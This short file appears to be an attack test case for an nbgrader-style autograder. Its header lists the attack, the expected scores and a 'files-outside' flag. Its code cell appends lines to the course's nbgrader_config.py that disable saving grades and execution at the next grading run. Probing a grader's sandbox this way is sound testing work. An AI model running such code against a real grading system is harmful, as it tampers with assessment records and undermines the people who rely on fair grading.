# attack: Adds a line to the course's settings that runs at the next grading.
# gain: write
# expect: q01=3 q02=3 q03=3
# flag: files-outside

# %% after q01
with open("{COURSE}/nbgrader_config.py", "a") as file:
    file.write("\nc.SaveAutoGrades.enabled = False\nc.Execute.enabled = False\n")
